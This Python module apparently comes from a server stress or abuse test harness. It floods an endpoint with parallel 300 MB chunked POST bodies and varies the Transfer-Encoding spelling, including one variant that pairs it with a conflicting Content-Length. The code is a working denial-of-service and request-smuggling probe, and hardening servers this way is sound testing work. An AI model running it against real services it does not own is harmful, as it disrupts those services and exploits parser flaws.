"""Bodies of 300 MB without a length, or with a wrong one, however the header is spelled."""

from __future__ import annotations

from abuse.hostile import HOST, Hostile, request_head

PIECE = b"10000\r\n" + b"x" * 0x10000 + b"\r\n"
PIECES = 300_000_000 // 0x10000
SPELLINGS: list[dict[str, str]] = [
    {"Transfer-Encoding": "Chunked"},
    {"Transfer-Encoding": "CHUNKED"},
    {"transfer-encoding": "gzip, chunked"},
    {"Transfer-Encoding": "chunKed", "Content-Length": "10"},
]


async def attack(hostile: Hostile) -> None:
    """Four spellings at once."""
    spellings = iter(SPELLINGS * 1000)

    async def flood() -> None:
        head = {"Host": f"{HOST}:{hostile.port}", "Content-Type": "application/json", **next(spellings)}
        async with hostile.plain() as line:
            await line.send(request_head("POST", "/api/records", head))
            for _ in range(PIECES):
                if not hostile.goes_on or not await line.send(PIECE):
                    break
                hostile.count("kB sent", 64)
        hostile.count("bodies")

    await hostile.together(flood, len(SPELLINGS))
